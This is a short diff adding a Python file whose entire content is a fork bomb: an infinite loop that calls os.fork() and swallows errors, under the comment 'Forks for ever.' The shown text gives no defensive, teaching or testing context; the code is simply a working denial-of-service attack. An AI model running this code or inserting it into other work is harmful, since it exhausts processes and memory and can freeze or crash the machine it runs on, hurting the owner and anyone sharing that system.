@@ -1,0 +1,8 @@
+# Forks for ever.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
